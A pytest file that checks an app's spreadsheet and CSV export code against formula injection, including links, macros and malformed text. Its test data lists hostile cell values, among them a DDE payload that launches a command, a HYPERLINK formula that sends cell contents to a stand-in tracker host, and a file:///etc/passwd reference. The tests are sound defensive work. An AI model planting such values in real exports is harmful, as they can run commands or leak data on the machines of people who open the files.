"""Exported tables do nothing by themselves: no formula, no link, whatever a product is called."""

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from app.storage.exports import write_table, write_text

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://tracker.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "{=1+1}",
    "https://tracker.example/x",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "external:\\\\server\\share",
    "file:///etc/passwd",
    "\x1b[2J\x00\x07",
    "\ud800",
    "\u202egnp",
    "</t></si><f>1+1</f>",
    "",
    "x" * 40_000,
)
_SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _rows() -> list[list[str | int | Decimal]]:
    return [[text, 1, Decimal("-2.50")] for text in FORMULAS]


def test_a_workbook_holds_text_and_numbers_alone(tmp_path: Path) -> None:
    """Neither formulas nor links nor macros nor references outwards."""
    path = tmp_path / "a.xlsx"
    write_table(path, [FORMULAS[1], "n", "price"], _rows())
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
        sheet = book.read("xl/worksheets/sheet1.xml")
        texts = book.read("xl/sharedStrings.xml")
    assert not [name for name in names if "external" in name or name.endswith((".bin", ".vml"))]
    assert "xl/worksheets/_rels/sheet1.xml.rels" not in names
    cells = ET.fromstring(sheet)  # noqa: S314 - what we wrote just now
    assert cells.findall(f".//{_SHEET}f") == cells.findall(f".//{_SHEET}hyperlink") == []
    kinds = {cell.get("t", "n") for cell in cells.iter(f"{_SHEET}c")}
    assert kinds <= {"s", "n"}
    assert texts.decode("utf-8")
    first = [row.find(f"{_SHEET}c") for row in cells.iter(f"{_SHEET}row")][1:]
    assert all(cell is not None and cell.get("t") == "s" for cell in first[:19])


def test_what_no_cell_can_hold_is_cut_and_says_so(tmp_path: Path) -> None:
    """Excel's cells end at 32,767 letters; the rest is not dropped without a sign."""
    path = tmp_path / "a.xlsx"
    write_table(path, ["text"], [["y" * 40_000]])
    with zipfile.ZipFile(path) as book:
        texts = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert "y" * 30_000 in texts
    assert "…" in texts


def test_a_csv_holds_no_formula(tmp_path: Path) -> None:
    """In titles and in cells; numbers stay numbers."""
    path = tmp_path / "a.csv"
    write_table(path, [FORMULAS[1], "n", "price"], _rows())
    read = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    assert len(read) == len(FORMULAS) + 1
    for row in read:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert read[1][1:] == ["1", "-2.50"]


@pytest.mark.parametrize("name", ["a.txt", "a.log"])
def test_any_text_can_be_saved(name: str, tmp_path: Path) -> None:
    """Half a surrogate pair is no reason to lose the rest."""
    write_text(tmp_path / name, "a\ud800b")
    assert (tmp_path / name).read_text("utf-8") == "a?b"


def test_a_table_without_rows(tmp_path: Path) -> None:
    """Titles alone."""
    for name in ("a.csv", "a.xlsx"):
        write_table(tmp_path / name, ["=1"], [])
        assert (tmp_path / name).stat().st_size
